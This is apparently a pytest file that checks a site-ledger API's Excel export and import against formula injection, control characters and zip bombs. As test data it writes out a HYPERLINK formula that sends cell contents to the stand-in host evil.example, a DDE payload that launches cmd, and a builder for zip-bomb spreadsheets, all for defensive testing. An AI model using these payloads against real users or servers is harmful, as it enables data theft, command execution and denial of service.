"""The ledger's Excel files are safe to open and to upload (issue 10, points 2, 3 and 6).

Formula injection: user text comes back as text, never as a formula, and re-imports as is.
Zip bombs: an upload that would expand far beyond its size is refused before parsing.
Control characters: refused on input, dropped on export instead of answering 500.
"""

from __future__ import annotations

import tracemalloc
import zipfile
from collections.abc import Callable
from io import BytesIO
from typing import Any

from fastapi.testclient import TestClient
from openpyxl import Workbook, load_workbook
from sqlalchemy.orm import Session

from dustgrid.grids.models import Grid
from dustgrid.sites.models import Site
from tests.fixtures.city import City

Api = Callable[[str], TestClient]
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
SHEET_PART = "xl/worksheets/sheet1.xml"
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"


def every_cell(content: bytes) -> list[Any]:
    """All non-empty cells of every sheet, read the way Excel would (formulas not evaluated)."""
    wb = load_workbook(BytesIO(content))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def assert_no_formula(content: bytes) -> None:
    cells = every_cell(content)
    assert cells
    formulas = [(c.coordinate, c.value) for c in cells if c.data_type == "f"]
    assert formulas == []
    starts = [c.value for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@\t\r"]
    assert [v for v in starts if not v.lstrip("+-").replace(" ", "").isdigit()] == []


def ledger_row(content: bytes, code: str) -> dict[str, Any]:
    ws = load_workbook(BytesIO(content))["工地台账"]
    rows = list(ws.iter_rows(values_only=True))
    return next(dict(zip(rows[0], r, strict=True)) for r in rows[1:] if r[0] == code)


def upload(client: TestClient, content: bytes) -> Any:
    return client.post("/api/v1/sites/import", files={"file": ("ledger.xlsx", content, XLSX)})


# --- point 2: formula injection --------------------------------------------------------------


def test_export_writes_formula_like_text_as_text_and_reimports_unchanged(
    api_as: Api, city: City
) -> None:
    api = api_as("admin")
    site_id = city.sites["HP-001"]
    r = api.patch(f"/api/v1/sites/{site_id}",
                  json={"contact_name": HYPERLINK[:64], "contact_phone": "=1+1",
                        "address": DDE, "permit_no": "-2+3"})  # fmt: skip
    assert r.status_code == 200, r.text
    phone_ok = api.patch(f"/api/v1/sites/{city.sites['HP-002']}",
                         json={"contact_phone": "+86 13800000000"})  # fmt: skip
    assert phone_ok.status_code == 200, phone_ok.text

    export = api.get("/api/v1/sites/export.xlsx")
    assert export.status_code == 200
    assert_no_formula(export.content)
    row = ledger_row(export.content, "HP-001")
    assert row["现场联系人"] == "'" + HYPERLINK[:64]
    assert row["联系电话"] == "'=1+1"
    assert row["地址"] == "'" + DDE
    assert row["施工许可证号"] == "'-2+3"
    assert ledger_row(export.content, "HP-002")["联系电话"] == "+86 13800000000"  # a number

    # the file goes back in as it came out: nothing changes, no apostrophe creeps in
    assert upload(api, export.content).json()["unchanged"] == 7
    detail = api.get(f"/api/v1/sites/{site_id}").json()
    assert (detail["contact_name"], detail["contact_phone"]) == (HYPERLINK[:64], "=1+1")
    assert (detail["address"], detail["permit_no"]) == (DDE, "-2+3")


def test_template_lists_formula_like_names_as_text(api_as: Api, db: Session, city: City) -> None:
    grid = db.get(Grid, city.grids["E-HP"])
    assert grid is not None
    grid.name = "=1+2"
    db.flush()
    r = api_as("admin").get("/api/v1/sites/template.xlsx")
    assert r.status_code == 200
    assert_no_formula(r.content)
    help_text = {c.value for c in every_cell(r.content)}
    assert "'=1+2" in help_text


# --- point 6: control characters ------------------------------------------------------------


def test_stored_control_characters_do_not_break_export_or_template(
    api_as: Api, db: Session, city: City
) -> None:
    """Rows saved before input was checked: the export drops the characters, never 500."""
    site = db.get(Site, city.sites["HP-001"])
    grid = db.get(Grid, city.grids["E-HP"])
    assert site is not None and grid is not None
    site.contact_name, site.address = "王\u0007工", "和平\x1f区\x1b一号\ufffe"
    grid.name = "g\u0001"
    db.flush()
    for user in ("admin", "d_heping"):
        api = api_as(user)
        export = api.get("/api/v1/sites/export.xlsx")
        assert export.status_code == 200, (user, export.text)
        row = ledger_row(export.content, "HP-001")
        assert (row["现场联系人"], row["地址"]) == ("王工", "和平区一号")
        template = api.get("/api/v1/sites/template.xlsx")
        assert template.status_code == 200, (user, template.text)
        assert "g" in {c.value for c in every_cell(template.content)}


def test_api_refuses_control_characters_and_names_the_field(api_as: Api, city: City) -> None:
    api = api_as("admin")
    site_id = city.sites["HP-001"]
    r = api.patch(f"/api/v1/sites/{site_id}", json={"contact_name": "王\u0007工"})
    assert r.status_code == 422
    assert "控制字符" in r.text and "contact_name" in r.text and "U+0007" in r.text
    r = api.patch(f"/api/v1/sites/{site_id}",
                  json={"builder": {"name": "甲\tB", "uscc": "91210102MA00000B1"}})  # fmt: skip
    assert r.status_code == 422 and "控制字符" in r.text
    r = api.patch(f"/api/v1/grids/{city.grids['E-HP']}", json={"name": "g\u0001"})
    assert r.status_code == 422 and "控制字符" in r.text
    r = api.patch(f"/api/v1/org/units/{city.units['bureau_heping']}", json={"name": "局\x1b"})
    assert r.status_code == 422 and "控制字符" in r.text
    assert api.get(f"/api/v1/sites/{site_id}").json()["contact_name"] != "王\u0007工"
    # multi-line text keeps its line breaks
    retire = api.post(f"/api/v1/sites/{site_id}/retire", json={"reason": "已竣工\n验收合格"})
    assert retire.status_code == 200, retire.text
    assert retire.json()["retire_reason"] == "已竣工\n验收合格"


def test_import_reports_a_control_character_as_a_row_error(api_as: Api, city: City) -> None:
    api = api_as("admin")
    export = api.get("/api/v1/sites/export.xlsx").content
    wb = load_workbook(BytesIO(export))
    ws = wb["工地台账"]
    headers = [c.value for c in ws[1]]
    ws.cell(row=2, column=headers.index("现场联系人") + 1).value = "王\u0085工"  # NEL, a C1 control
    buf = BytesIO()
    wb.save(buf)
    report = upload(api, buf.getvalue()).json()
    assert report["unchanged"] == 6
    assert [(e["row"], e["column"]) for e in report["errors"]] == [(2, "现场联系人")]
    assert "控制字符" in report["errors"][0]["reason"]


# --- point 3: zip bombs ----------------------------------------------------------------------


def bomb(string_bytes: int) -> bytes:
    """A real .xlsx whose one cell holds a text of ``string_bytes`` letters."""
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(["x"])
    plain = BytesIO()
    wb.save(plain)
    out = BytesIO()
    with zipfile.ZipFile(plain) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == SHEET_PART:
                assert b"<t>x</t>" in data
                data = data.replace(b"<t>x</t>", b"<t>" + b"A" * string_bytes + b"</t>")
            dst.writestr(info.filename, data, compresslevel=9)
    return out.getvalue()


def test_a_zip_bomb_is_refused_before_it_is_inflated(api_as: Api) -> None:
    api = api_as("admin")
    content = bomb(80 * 1024 * 1024)  # 80 MB of one letter: about 80 KB on the wire
    assert len(content) < 200 * 1024
    tracemalloc.start()
    try:
        r = upload(api, content)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert r.status_code == 422
    assert "解压后" in r.json()["detail"] and SHEET_PART in r.json()["detail"]
    assert r.json()["errors"]["key"] == "xlsx.entry_too_large"
    assert peak < 16 * 1024 * 1024  # the string was never read into memory


def test_a_small_but_overly_compressed_upload_is_refused(api_as: Api) -> None:
    r = upload(api_as("admin"), bomb(8 * 1024 * 1024))  # within the size caps, ratio ~1000:1
    assert r.status_code == 422
    assert "压缩比" in r.json()["detail"] and r.json()["errors"]["key"] == "xlsx.ratio_too_high"
